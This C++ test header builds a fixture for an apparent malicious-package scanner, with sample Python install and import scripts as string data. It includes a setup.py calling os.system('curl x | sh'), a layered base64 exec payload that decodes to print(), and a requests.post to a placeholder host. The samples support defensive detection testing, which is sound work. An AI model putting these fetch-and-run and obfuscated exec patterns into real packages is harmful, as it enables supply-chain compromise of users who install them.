#pragma once
// A small hand-made ScanResult: two batch packages (three ranked scripts), one background package sharing a sequence
// with a batch script, one known package whose text was dropped, one read error. beta's __init__.py runs more than
// itself (design 2.8): a base64 payload whose decoded code decodes and runs a second layer, then the package's
// beta/_hooks.py, which it imports.
#include "pipeline/scan.h"

#include <memory>

namespace mph::test {

inline CallToken call(std::string name, std::uint32_t begin, std::uint32_t end, std::uint32_t source = 0) {
    return {std::move(name), begin, end, source};
}

inline std::shared_ptr<const ScanResult> makeScanFixture() {
    auto scan = std::make_shared<ScanResult>();
    scan->batchNames = {"/batches/monday"};
    const std::string alphaText = "import os\nos.system('curl x | sh')\n";
    const std::string betaText = "from setuptools import setup\nsetup(name='beta')\n";
    const std::string betaInit = "import base64\n"
                                 "exec(base64.b64decode('aW1wb3J0IGJhc2U2NAoKZXhlYyhiYXNlNjQuYjY0ZGVjb2RlKCdjSEpw"
                                 "Ym5Rb0tRPT0nKSkK'))\n"
                                 "from . import _hooks\n";
    const std::string layer1 = "import base64\n\nexec(base64.b64decode('cHJpbnQoKQ=='))\n"; // decoded from betaInit
    const std::string layer2 = "print()\n";                                                 // decoded from layer1
    const std::string betaHooks = "import requests\n\nrequests.post('https://x.invalid', data=b'')\n";
    scan->packages = {
        Package{"/batches/monday/alpha-1.0.tar.gz",
                "alpha",
                "1.0",
                PackageFormat::Tar,
                "a1",
                100,
                {Script{"alpha-1.0/setup.py", Scope::Install, alphaText, "s-alpha"}}},
        Package{"/batches/monday/beta-2.0.tar.gz",
                "beta",
                "2.0",
                PackageFormat::Tar,
                "b2",
                200,
                {Script{"beta-2.0/setup.py", Scope::Install, betaText, "s-beta"},
                 Script{"beta-2.0/beta/__init__.py", Scope::Import, betaInit, "s-beta-init"}}},
        Package{"/background/gamma-0.1.tar.gz",
                "gamma",
                "0.1",
                PackageFormat::Tar,
                "g0",
                50,
                {Script{"gamma-0.1/setup.py", Scope::Install, "", "s-gamma"}}},
        Package{"/known/evil/6.6/evil.zip",
                "evil",
                "6.6",
                PackageFormat::EncryptedZip,
                "e6",
                70,
                {Script{"evil-6.6/setup.py", Scope::Install, "", "s-evil"}}},
    };
    scan->packages[1].modules = {Module{"beta-2.0/beta/_hooks.py", betaHooks}};
    scan->packages[1].root = "beta-2.0/";
    scan->packageRoles = {Role::Batch, Role::Batch, Role::Background, Role::Known};
    scan->packageBatch = {0, 0, -1, -1};
    // beta's __init__.py: itself, layer 1 (run by its exec at line 2), layer 2 (run by layer 1's exec at its line 3),
    // then beta/_hooks.py.
    const std::vector<CodeSource> betaInitSources = {
        CodeSource{"beta-2.0/beta/__init__.py", 0, -1, 0, 0, "", 2},
        CodeSource{"beta-2.0/beta/__init__.py", 1, 0, 14, 18, layer1, 2},
        CodeSource{"beta-2.0/beta/__init__.py", 2, 1, 15, 19, layer2, 1},
        CodeSource{"beta-2.0/beta/_hooks.py", 0, -1, 0, 0, "", 1},
    };
    scan->scripts = {
        ScriptEntry{0, 0, Scope::Install, 0},
        ScriptEntry{1, 0, Scope::Install, 1},
        ScriptEntry{1, 1, Scope::Import, 2, {}, betaInitSources},
        ScriptEntry{2, 0, Scope::Install, 1},
        ScriptEntry{3, 0, Scope::Install, 3},
    };
    // Byte ranges point into the texts above: "os.system" at 10..19 in alpha, "setup" at 29..34 in beta; in beta's
    // __init__.py "exec" at 14..18, then layer 1's calls, layer 2's print, _hooks.py's requests.post at 17..30.
    scan->sequences = {
        CallSequence{{call("os.system", 10, 19)}, {}, 0, false},
        CallSequence{{call("setup", 29, 34)}, {}, 0, false},
        CallSequence{{call("base64.b64decode", 19, 35), call("exec", 14, 18), call("base64.b64decode", 20, 36, 1),
                      call("exec", 15, 19, 1), call("print", 0, 5, 2), call("requests.post", 17, 30, 3)},
                     betaInitSources,
                     0,
                     false},
        CallSequence{{call("os.system", 0, 0), call("request.urlopen", 0, 0)}, {}, 0, false},
    };
    scan->mapX = {0.0f, 10.0f, 5.0f, 1.0f};
    scan->mapY = {0.0f, 10.0f, 0.0f, 1.0f};
    RankedScript alpha;
    alpha.entry = 0;
    alpha.rank = 1;
    alpha.cluster = -1;
    alpha.outlierScore = 0.8;
    alpha.score = 0.9125;
    alpha.dB = 0.75;
    alpha.dM = 0.125;
    alpha.beta = 0.1;
    alpha.wB = 0.4;
    alpha.nearestKnown = {4};
    alpha.rareSharedCalls = {"os.system"};
    RankedScript beta;
    beta.entry = 1;
    beta.rank = 2;
    beta.cluster = 0;
    beta.score = 0.25;
    beta.dB = 0.0;
    beta.dM = 1.5;
    beta.nearestKnown = {4};
    RankedScript betaInitRank;
    betaInitRank.entry = 2;
    betaInitRank.rank = 1;
    betaInitRank.cluster = -1;
    betaInitRank.score = 0.5;
    betaInitRank.dB = 1.0;
    betaInitRank.dM = 2.0;
    scan->ranking = {alpha, beta, betaInitRank};
    scan->errors = {ReadError{"/batches/monday/broken.tar.gz", "not an archive"}};
    scan->timings = {StageTiming{"reading", 0.5}};
    return scan;
}

} // namespace mph::test
